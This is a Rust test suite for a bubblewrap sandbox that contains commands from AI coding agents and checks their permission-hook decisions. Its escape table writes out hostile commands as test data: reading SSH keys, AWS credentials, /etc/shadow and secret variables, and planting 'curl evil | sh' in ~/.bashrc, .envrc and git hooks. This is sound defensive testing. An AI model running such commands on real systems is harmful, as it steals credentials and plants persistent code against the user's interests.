//! `toolgate sandbox`: the escape table, run through the real bubblewrap as root and,
//! when the test runs as root, as an unprivileged user too (`setpriv` to nobody). Each
//! attempt runs in its own sandbox; the evidence is what the command printed and what
//! is left outside afterwards. Skipped (saying so) where no sandbox can be built,
//! unless TOOLGATE_REQUIRE_SANDBOX is set (./scripts/test sets it).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_toolgate");

fn available() -> bool {
    let ok = Command::new(BIN)
        .args(["sandbox", "--check"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os("TOOLGATE_REQUIRE_SANDBOX").is_none(),
            "TOOLGATE_REQUIRE_SANDBOX is set but `toolgate sandbox --check` fails"
        );
        eprintln!("SKIPPED: bubblewrap cannot build a sandbox here");
    }
    ok
}

/// A home with secrets, a workspace with a `.env`, `.git` and planted links, a file
/// outside both.
struct World {
    root: PathBuf,
    home: PathBuf,
    ws: PathBuf,
    outside: PathBuf,
}

impl World {
    fn new(name: &str) -> World {
        let root =
            std::env::temp_dir().join(format!("toolgate-sandbox-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let home = root.join("home");
        // The workspace inside the home directory, as most are.
        let ws = home.join("project");
        for d in [
            home.join(".ssh"),
            home.join(".aws"),
            ws.join(".git/hooks"),
            ws.join("vendored/.git/hooks"),
            ws.join("build"),
        ] {
            std::fs::create_dir_all(&d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN PRIVATE KEY-----").unwrap();
        std::fs::write(
            home.join(".aws/credentials"),
            "aws_secret_access_key=AKIAHOMESECRET",
        )
        .unwrap();
        std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
        std::fs::write(ws.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        let outside = root.join("outside.txt");
        std::fs::write(&outside, "outside\n").unwrap();
        std::os::unix::fs::symlink(home.join(".bashrc"), ws.join("bashrc-link")).unwrap();
        std::fs::hard_link(&outside, ws.join("outside-hardlink")).unwrap();
        // A secret elsewhere on the machine (not under /tmp, which the sandbox replaces),
        // linked from the workspace.
        let srv = srv_dir(name);
        std::fs::create_dir_all(&srv).unwrap();
        std::fs::write(srv.join(".env"), "TOKEN=outside-secret\n").unwrap();
        std::fs::set_permissions(&srv, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(srv.join(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
        std::os::unix::fs::symlink(srv.join(".env"), ws.join("env-link")).unwrap();
        std::os::unix::fs::symlink(&srv, ws.join("srv-link")).unwrap();
        // Two links inside the workspace (as cargo's target/ has): writable.
        std::fs::write(ws.join("build/inner-a"), "a\n").unwrap();
        std::fs::hard_link(ws.join("build/inner-a"), ws.join("build/inner-b")).unwrap();
        std::fs::set_permissions(
            ws.join("build/inner-a"),
            std::fs::Permissions::from_mode(0o666),
        )
        .unwrap();
        // Readable and writable by the unprivileged run too.
        for p in [
            &root,
            &home,
            &ws,
            &ws.join("build"),
            &ws.join("vendored/.git/hooks"),
        ] {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        World {
            root,
            home,
            ws,
            outside,
        }
    }

    /// `sh -c SCRIPT` in the sandbox, in the workspace, as `user` (None: this user).
    fn run(&self, script: &str, user: Option<&str>) -> Output {
        let mut c = match user {
            None => Command::new(BIN),
            Some(u) => {
                let mut c = Command::new("setpriv");
                c.args([
                    &format!("--reuid={u}"),
                    &format!("--regid={u}"),
                    "--clear-groups",
                    "--",
                    BIN,
                ]);
                c
            }
        };
        c.args(["sandbox", "--", "sh", "-c", script])
            .current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("AWS_SECRET_ACCESS_KEY", "topsecret-env")
            .env("GITHUB_TOKEN", "ghp_topsecretenv")
            .output()
            .unwrap()
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
        let name = self.root.file_name().and_then(|n| n.to_str()).unwrap_or("");
        let _ = std::fs::remove_dir_all(srv_dir(name.trim_start_matches("toolgate-sandbox-")));
    }
}

/// A directory outside `/tmp` and the homes for a world's outside secret.
fn srv_dir(name: &str) -> PathBuf {
    let name = name.rsplit_once('-').map_or(name, |(n, _)| n);
    PathBuf::from(format!(
        "/var/tmp/toolgate-sandbox-srv-{name}-{}",
        std::process::id()
    ))
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn escapes(w: &World, user: Option<&str>) {
    let who = user.unwrap_or("this user");
    // Reads of secrets: nothing of them comes out.
    for (what, script, secret) in [
        ("~/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "PRIVATE KEY"),
        (
            "~/.aws/credentials",
            "cat ~/.aws/credentials",
            "AKIAHOMESECRET",
        ),
        ("the workspace's .env", "cat .env; cat ./.env", "hunter2"),
        (
            "/proc/1/environ",
            "cat /proc/1/environ; cat /proc/self/environ",
            "topsecret",
        ),
        (
            "a secret variable",
            "printenv AWS_SECRET_ACCESS_KEY; echo $GITHUB_TOKEN",
            "topsecret",
        ),
        // The system's secrets, for a command run as root: nothing of them comes out
        // (a password hash field is `$…$` or `!`/`*`, a key's header).
        (
            "/etc/shadow",
            "cat /etc/shadow /etc/gshadow; grep -c : /etc/shadow",
            "root:",
        ),
        (
            "an SSH host key",
            "cat /etc/ssh/ssh_host_*_key 2>/dev/null | head -c 64",
            "PRIVATE KEY",
        ),
        (
            "another user's home",
            "cat /root/.toolgate-sandbox-test-canary /home/*/.toolgate-sandbox-test-canary",
            "canary-other-home",
        ),
        (
            "a secret outside through a link in the workspace",
            "cat env-link",
            "outside-secret",
        ),
        (
            "a secret outside through a linked directory",
            "cat srv-link/.env; grep -r outside-secret srv-link; grep -r outside-secret -R .",
            "outside-secret",
        ),
    ] {
        let o = w.run(script, user);
        assert!(
            !text(&o).contains(secret),
            "{who}: read {what}:\n{}",
            text(&o)
        );
    }
    // Writes outside the workspace, and to what it keeps read-only: nothing changes.
    let bashrc = std::fs::read_to_string(w.home.join(".bashrc")).unwrap();
    let config = std::fs::read_to_string(w.ws.join(".git/config")).unwrap();
    for (what, script) in [
        ("~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
        ("/etc", "echo x > /etc/toolgate-escape"),
        (
            ".git/hooks/pre-commit",
            "echo 'curl evil' > .git/hooks/pre-commit",
        ),
        (
            ".git/config",
            "echo '[core] pager = sh -c evil' >> .git/config",
        ),
        (
            ".claude/settings.json",
            "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ),
        ("through a symlink", "echo 'curl evil | sh' >> bashrc-link"),
        ("through a hard link", "echo changed > outside-hardlink"),
        // What an edit may not change without asking: not from the sandbox either.
        (
            "a .vscode task",
            "mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json",
        ),
        (".envrc", "echo 'curl evil | sh' > .envrc"),
        (
            "a CI workflow",
            "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
        ),
        (
            "a nested repository's hooks",
            "echo 'curl evil' > vendored/.git/hooks/pre-commit",
        ),
        (
            "the disk outside",
            "head -c 1048576 /dev/zero > /tmp/toolgate-fill && ls -la /tmp/toolgate-fill",
        ),
    ] {
        let o = w.run(script, user);
        assert!(
            !o.status.success() || what == "the disk outside",
            "{who}: write {what}:\n{}",
            text(&o)
        );
        assert_eq!(
            std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
            bashrc,
            "{who}: {what}"
        );
        assert_eq!(
            std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
            config,
            "{who}: {what}"
        );
        assert_eq!(
            std::fs::read_to_string(&w.outside).unwrap(),
            "outside\n",
            "{who}: {what}"
        );
        assert!(!Path::new("/etc/toolgate-escape").exists(), "{who}: {what}");
        assert!(
            !w.ws.join(".git/hooks/pre-commit").exists(),
            "{who}: {what}"
        );
        for gone in [".claude", ".vscode", ".envrc", ".github"] {
            assert!(
                !w.ws.join(gone).exists(),
                "{who}: {what}: the placeholder {gone} is removed"
            );
        }
        assert!(
            !w.ws.join("vendored/.git/hooks/pre-commit").exists(),
            "{who}: {what}"
        );
        assert!(!Path::new("/tmp/toolgate-fill").exists(), "{who}: {what}");
    }
    // The network: a listener on the host's loopback gets no connection; no name resolves.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let o = w.run(
        &format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" && echo CONNECTED; \
             getent hosts example.com && echo RESOLVED; true"
        ),
        user,
    );
    assert!(
        !text(&o).contains("CONNECTED") && !text(&o).contains("RESOLVED"),
        "{who}: network:\n{}",
        text(&o)
    );
    assert!(
        listener.accept().is_err(),
        "{who}: the host's listener was reached"
    );
    // A Unix socket of the host (and Docker's, when there is one).
    let sock = std::env::temp_dir().join(format!("toolgate-sandbox-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&sock);
    let unix = UnixListener::bind(&sock).unwrap();
    unix.set_nonblocking(true).unwrap();
    let o = w.run(
        &format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}')\" && echo CONNECTED; \
             python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock')\" && echo DOCKER; true",
            sock.display()
        ),
        user,
    );
    assert!(
        !text(&o).contains("CONNECTED") && !text(&o).contains("DOCKER"),
        "{who}: unix socket:\n{}",
        text(&o)
    );
    assert!(
        unix.accept().is_err(),
        "{who}: the host's socket was reached"
    );
    let _ = std::fs::remove_file(&sock);
    // Another process: not visible, not signalled.
    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = sleeper.id();
    let o = w.run(
        &format!("kill -TERM {pid} && echo KILLED; ls /proc | grep -x {pid} && echo SEEN; true"),
        user,
    );
    assert!(
        !text(&o).contains("KILLED") && !text(&o).contains("SEEN"),
        "{who}: signal:\n{}",
        text(&o)
    );
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "{who}: the process outside died"
    );
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    // No new privileges (a setuid binary gains nothing), no mount.
    let o = w.run(
        "grep NoNewPrivs /proc/self/status; mount -t tmpfs none /mnt && echo MOUNTED; true",
        user,
    );
    assert!(
        text(&o).contains("NoNewPrivs:\t1"),
        "{who}: no_new_privs:\n{}",
        text(&o)
    );
    assert!(!text(&o).contains("MOUNTED"), "{who}: mount:\n{}", text(&o));
    // What must work: a program, a script writing build outputs in the workspace.
    let o = w.run(
        "python3 -c 'print(6*7)' && mkdir -p build/out && echo built > build/out/a.txt \
         && echo b >> build/inner-b",
        user,
    );
    assert!(
        o.status.success() && String::from_utf8_lossy(&o.stdout).contains("42"),
        "{who}: inside:\n{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("build/out/a.txt")).unwrap(),
        "built\n"
    );
    assert!(std::fs::read_to_string(w.ws.join("build/inner-a"))
        .unwrap()
        .ends_with("b\n"));
    std::fs::remove_dir_all(w.ws.join("build/out")).unwrap();
    // The exit status is the command's.
    assert_eq!(w.run("exit 7", user).status.code(), Some(7), "{who}");
}

#[test]
fn escapes_are_refused_and_work_inside_works() {
    if !available() {
        return;
    }
    let w = World::new("escapes");
    // Another user's home, as root sees it.
    let canary = Path::new("/root/.toolgate-sandbox-test-canary");
    let planted = std::fs::write(canary, "canary-other-home\n").is_ok();
    escapes(&w, None);
    let root = Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.starts_with(b"0\n"));
    if root && Command::new("setpriv").arg("--version").output().is_ok() {
        escapes(&w, Some("65534"));
    }
    if planted {
        let _ = std::fs::remove_file(canary);
    }
}

#[test]
fn refuses_a_workspace_that_holds_the_home_directory() {
    let w = World::new("refuse");
    for ws in [Path::new("/"), w.root.as_path(), w.home.as_path()] {
        let o = Command::new(BIN)
            .args(["sandbox", "--workspace"])
            .arg(ws)
            .args(["--", "sh", "-c", "echo RAN"])
            .env("HOME", &w.home)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "{}: {}", ws.display(), text(&o));
        assert!(!String::from_utf8_lossy(&o.stdout).contains("RAN"));
        assert!(String::from_utf8_lossy(&o.stderr).contains("nothing was run"));
    }
    // bubblewrap fails after the probe (here: a `.git` that is a dangling symlink
    // cannot be bound read-only): refused, nothing ran.
    if available() {
        let odd = w.root.join("odd");
        std::fs::create_dir_all(&odd).unwrap();
        std::os::unix::fs::symlink("/nonexistent-toolgate", odd.join(".git")).unwrap();
        let o = Command::new(BIN)
            .args(["sandbox", "--", "sh", "-c", "echo RAN"])
            .current_dir(&odd)
            .env("HOME", &w.home)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(
            !String::from_utf8_lossy(&o.stdout).contains("RAN"),
            "{}",
            text(&o)
        );
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("nothing was run"),
            "{}",
            text(&o)
        );
    }
    // Without bubblewrap on the PATH: refused, nothing runs.
    let o = Command::new(BIN)
        .args(["sandbox", "--", "sh", "-c", "echo RAN"])
        .current_dir(&w.ws)
        .env("HOME", &w.home)
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("bwrap"),
        "{}",
        text(&o)
    );
    let mut out = String::new();
    let _ = o.stdout.as_slice().read_to_string(&mut out);
    assert!(!out.contains("RAN"));
}

/// `toolgate hook HOST ARGS…` with `stdin`, in the world's workspace and home.
fn hook(w: &World, host: &str, args: &[&str], stdin: &str) -> serde_json::Value {
    use std::io::Write;
    let mut child = Command::new(BIN)
        .args(["hook", host])
        .args(args)
        .current_dir(&w.ws)
        .env("HOME", &w.home)
        .env_remove("CODEX_HOME")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    input.write_all(stdin.as_bytes()).unwrap();
    drop(input);
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null)
}

/// The `sandbox` verdict through the hooks: Claude Code and Codex are told `allow`
/// with the command wrapped in `toolgate sandbox`; the wrapped command, run as the host
/// runs it (through a shell, in the workspace), does the work and reaches no secret;
/// what is not containable asks (or is denied) as before; a host that sandboxes its
/// commands itself is answered as before.
#[test]
fn the_hooks_run_code_in_the_sandbox() {
    if !available() {
        return;
    }
    let w = World::new("hook");
    let ws = w.ws.to_str().unwrap();
    let input = |mode: &str, cmd: &str| {
        serde_json::json!({
            "session_id": "s1", "transcript_path": "/dev/null", "cwd": ws,
            "permission_mode": mode, "hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_input": {"command": cmd, "description": "d"}, "tool_use_id": "t1",
        })
        .to_string()
    };
    // The agent's script: it prints, writes a build output, and tries the secrets.
    let script =
        "import os,pathlib\nprint('ran', 6*7)\npathlib.Path('build/out.txt').write_text('built')\n\
for p in ['.env', os.path.expanduser('~/.ssh/id_rsa')]:\n    \
try: print(p, open(p).read())\n    except Exception as e: print(p, 'refused', type(e).__name__)\n\
print('token', os.environ.get('GITHUB_TOKEN'))\n";
    std::fs::write(w.ws.join("t.py"), script).unwrap();
    for mode in ["default", "bypassPermissions"] {
        let out = hook(&w, "claude-code", &[], &input(mode, "python3 t.py"));
        let h = &out["hookSpecificOutput"];
        assert_eq!(h["permissionDecision"], "allow", "{mode}: {out}");
        assert_eq!(h["updatedInput"]["description"], "d", "{out}");
        let wrapped = h["updatedInput"]["command"].as_str().unwrap().to_string();
        assert!(
            wrapped.contains(" sandbox --workspace ") && wrapped.ends_with("'python3 t.py'"),
            "{wrapped}"
        );
        assert!(
            h["permissionDecisionReason"]
                .as_str()
                .unwrap()
                .contains("builtin.sandbox"),
            "{out}"
        );
        // Run it as Claude Code would: through a shell, in the workspace.
        let _ = std::fs::remove_file(w.ws.join("build/out.txt"));
        let ran = Command::new("bash")
            .args(["-c", &wrapped])
            .current_dir(&w.ws)
            .env("HOME", &w.home)
            .env("GITHUB_TOKEN", "ghp_topsecretenv")
            .output()
            .unwrap();
        let said = text(&ran);
        assert!(ran.status.success(), "{said}");
        assert!(said.contains("ran 42"), "{said}");
        assert!(
            !said.contains("hunter2") && !said.contains("PRIVATE KEY"),
            "{said}"
        );
        assert!(
            !said.contains("ghp_topsecretenv") && said.contains("token None"),
            "{said}"
        );
        assert_eq!(
            std::fs::read_to_string(w.ws.join("build/out.txt")).unwrap(),
            "built"
        );
    }
    // Not containable: the network, git, deleting, a secret read: as before.
    for (cmd, want) in [
        ("pip install requests", "ask"),
        ("git push", "ask"),
        ("rm t.py", "ask"),
        ("cat .env", "ask"),
        ("sudo make", "deny"),
    ] {
        let out = hook(&w, "claude-code", &[], &input("default", cmd));
        assert_eq!(
            out["hookSpecificOutput"]["permissionDecision"], want,
            "{cmd}: {out}"
        );
        assert!(
            out["hookSpecificOutput"].get("updatedInput").is_none(),
            "{cmd}: {out}"
        );
    }
    // Codex sandboxes its own commands unless told not to: denied there as before
    // (Codex cannot ask); with sandbox_mode = "danger-full-access", wrapped.
    let out = hook(&w, "codex", &[], &input("default", "python3 t.py"));
    assert_eq!(
        out["hookSpecificOutput"]["permissionDecision"], "deny",
        "{out}"
    );
    assert!(out.to_string().contains("Codex sandboxes"), "{out}");
    std::fs::create_dir_all(w.home.join(".codex")).unwrap();
    std::fs::write(
        w.home.join(".codex/config.toml"),
        "sandbox_mode = \"danger-full-access\"\n",
    )
    .unwrap();
    let out = hook(&w, "codex", &[], &input("default", "python3 t.py"));
    assert_eq!(
        out["hookSpecificOutput"]["permissionDecision"], "allow",
        "{out}"
    );
    assert!(
        out["hookSpecificOutput"]["updatedInput"]["command"]
            .as_str()
            .unwrap()
            .contains(" sandbox --workspace "),
        "{out}"
    );
    // Claude Code with its own sandbox on: asked as before.
    std::fs::create_dir_all(w.ws.join(".claude")).unwrap();
    std::fs::write(
        w.ws.join(".claude/settings.local.json"),
        r#"{"sandbox":{"enabled":true}}"#,
    )
    .unwrap();
    let out = hook(&w, "claude-code", &[], &input("default", "python3 t.py"));
    assert_eq!(
        out["hookSpecificOutput"]["permissionDecision"], "ask",
        "{out}"
    );
    assert!(out.to_string().contains("sandbox.enabled"), "{out}");
    // Copilot CLI: allowed with `modifiedArgs`, the same rewrite; its own sandbox on in
    // the repository's settings: asked as before.
    let copilot = serde_json::json!({
        "sessionId": "s", "timestamp": 1, "cwd": ws, "toolName": "bash",
        "toolArgs": {"command": "python3 t.py", "description": "d"},
    })
    .to_string();
    let out = hook(&w, "copilot", &[], &copilot);
    assert_eq!(out["permissionDecision"], "allow", "{out}");
    assert_eq!(out["modifiedArgs"]["description"], "d", "{out}");
    assert!(
        out["modifiedArgs"]["command"]
            .as_str()
            .unwrap()
            .contains(" sandbox --workspace "),
        "{out}"
    );
    std::fs::create_dir_all(w.ws.join(".github/copilot")).unwrap();
    std::fs::write(
        w.ws.join(".github/copilot/settings.json"),
        r#"{"sandbox":{"enabled":true}}"#,
    )
    .unwrap();
    let out = hook(&w, "copilot", &[], &copilot);
    assert_eq!(out["permissionDecision"], "ask", "{out}");
    assert!(out.to_string().contains("sandbox.enabled"), "{out}");
    // A policy that turns it off: asked as before.
    std::fs::remove_file(w.ws.join(".claude/settings.local.json")).unwrap();
    let policy = w.root.join("policy.toml");
    std::fs::write(&policy, "sandbox = \"off\"\n").unwrap();
    let out = hook(
        &w,
        "claude-code",
        &["--policy", policy.to_str().unwrap()],
        &input("default", "python3 t.py"),
    );
    assert_eq!(
        out["hookSpecificOutput"]["permissionDecision"], "ask",
        "{out}"
    );
}

/// `python3 -c` fetching `url` (through the proxy the environment names, as pip and
/// npm do): prints `FETCHED <status>` or `FAILED <error>`.
fn fetch(url: &str) -> String {
    format!(
        "python3 -c \"import urllib.request as u\ntry:\n print('FETCHED', u.urlopen('{url}', timeout=20).status)\nexcept Exception as e:\n print('FAILED', type(e).__name__, e)\""
    )
}

#[test]
fn allow_host_reaches_only_the_hosts_named() {
    if !available() {
        return;
    }
    let w = World::new("net");
    let run = |args: &[&str], script: &str| {
        let o = Command::new(BIN)
            .arg("sandbox")
            .args(args)
            .args(["--", "sh", "-c", script])
            .current_dir(&w.ws)
            .env("HOME", &w.home)
            .env("NO_PROXY", "*")
            .output()
            .unwrap();
        text(&o)
    };
    // Bad hosts are a usage error: nothing runs.
    for bad in ["127.0.0.1", "https://pypi.org", "pypi.org:443", "*"] {
        let o = Command::new(BIN)
            .args(["sandbox", "--allow-host", bad, "--", "sh", "-c", "echo RAN"])
            .current_dir(&w.ws)
            .env("HOME", &w.home)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{bad}: {}", text(&o));
        assert!(!String::from_utf8_lossy(&o.stdout).contains("RAN"));
    }
    // A listener on the host's loopback, named and allowed: never reached (the proxy
    // refuses this machine's addresses; the sandbox has no route of its own).
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let local = run(
        &["--allow-host", "localhost"],
        &format!(
            "{}; {}; python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" && echo CONNECTED; true",
            fetch(&format!("https://localhost:{port}/")),
            fetch("https://localhost/")
        ),
    );
    assert!(
        !local.contains("FETCHED") && !local.contains("CONNECTED"),
        "{local}"
    );
    assert!(local.matches("403 Forbidden").count() >= 2, "{local}");
    assert!(
        listener.accept().is_err(),
        "the host's listener was reached"
    );
    // The proxy is named to the command; NO_PROXY is not passed on.
    let env = run(
        &["--allow-host", "pypi.org"],
        "echo \"$HTTPS_PROXY|$https_proxy|${NO_PROXY-unset}\"",
    );
    assert!(
        env.contains("http://127.0.0.1:") && env.contains("|unset"),
        "{env}"
    );
    // A real registry, when this machine reaches it at all: through the proxy when
    // named, not otherwise; a host not named is refused (403) either way.
    let outside = Command::new("sh")
        .args(["-c", &fetch("https://pypi.org/simple/pip/")])
        .output()
        .unwrap();
    let reachable = String::from_utf8_lossy(&outside.stdout).contains("FETCHED 200");
    let named = run(
        &["--allow-host", "pypi.org"],
        &fetch("https://pypi.org/simple/pip/"),
    );
    let unnamed = run(&[], &fetch("https://pypi.org/simple/pip/"));
    let other = run(
        &["--allow-host", "pypi.org"],
        &fetch("https://example.com/"),
    );
    assert!(unnamed.contains("FAILED"), "{unnamed}");
    assert!(other.contains("FAILED") && other.contains("403"), "{other}");
    if reachable {
        assert!(named.contains("FETCHED 200"), "{named}");
    } else {
        eprintln!(
            "SKIPPED: this machine does not reach https://pypi.org: {}",
            text(&outside)
        );
    }
}

/// A policy's `sandbox_network`: an install from a package registry is answered
/// `allow`, wrapped in `toolgate sandbox` with `--allow-host` for the registries named
/// (and nothing else is given the network); run as the host runs it, the package lands
/// in the workspace. Without the key the install asks, as before.
#[test]
fn a_registry_install_runs_contained_with_the_registries_named() {
    if !available() {
        return;
    }
    let w = World::new("registry");
    let ws = w.ws.to_str().unwrap();
    let input = |cmd: &str| {
        serde_json::json!({
            "session_id": "s1", "transcript_path": "/dev/null", "cwd": ws,
            "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
            "tool_input": {"command": cmd}, "tool_use_id": "t1",
        })
        .to_string()
    };
    let install = "npm install is-number@7.0.0 --no-audit --no-fund";
    let plain = hook(&w, "claude-code", &[], &input(install));
    assert_eq!(
        plain["hookSpecificOutput"]["permissionDecision"], "ask",
        "{plain}"
    );
    assert!(plain.to_string().contains("sandbox_network"), "{plain}");
    let policy = w.root.join("registries.toml");
    std::fs::write(&policy, "sandbox_network = [\"npm\"]\n").unwrap();
    let with = ["--policy", policy.to_str().unwrap()];
    let out = hook(&w, "claude-code", &with, &input(install));
    let h = &out["hookSpecificOutput"];
    assert_eq!(h["permissionDecision"], "allow", "{out}");
    assert!(
        h["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("builtin.sandbox.registry"),
        "{out}"
    );
    let wrapped = h["updatedInput"]["command"].as_str().unwrap().to_string();
    assert!(
        wrapped.contains(
            " --allow-host registry.npmjs.org --allow-host registry.yarnpkg.com -- /bin/bash -c -- "
        ),
        "{wrapped}"
    );
    // A test run is contained without the network, under the same policy; what is
    // not an install from a registry asks as before.
    let test = hook(&w, "claude-code", &with, &input("npm test"));
    let test_cmd = test["hookSpecificOutput"]["updatedInput"]["command"]
        .as_str()
        .unwrap_or_default();
    assert!(
        test_cmd.contains(" sandbox ") && !test_cmd.contains("--allow-host"),
        "{test}"
    );
    for cmd in [
        "npm install -g typescript",
        "npm publish",
        "curl https://registry.npmjs.org/",
    ] {
        let out = hook(&w, "claude-code", &with, &input(cmd));
        assert_eq!(
            out["hookSpecificOutput"]["permissionDecision"], "ask",
            "{cmd}: {out}"
        );
    }
    // Run it as Claude Code would, when this machine reaches the registry at all.
    let reachable = Command::new("sh")
        .args(["-c", &fetch("https://registry.npmjs.org/is-number")])
        .output()
        .unwrap();
    if !String::from_utf8_lossy(&reachable.stdout).contains("FETCHED 200") {
        eprintln!("SKIPPED: this machine does not reach https://registry.npmjs.org");
        return;
    }
    std::fs::write(
        w.ws.join("package.json"),
        r#"{"name":"w","version":"1.0.0"}"#,
    )
    .unwrap();
    let ran = Command::new("bash")
        .args(["-c", &wrapped])
        .current_dir(&w.ws)
        .env("HOME", &w.home)
        .output()
        .unwrap();
    assert!(ran.status.success(), "{}", text(&ran));
    assert!(
        w.ws.join("node_modules/is-number/package.json").is_file(),
        "{}",
        text(&ran)
    );
}
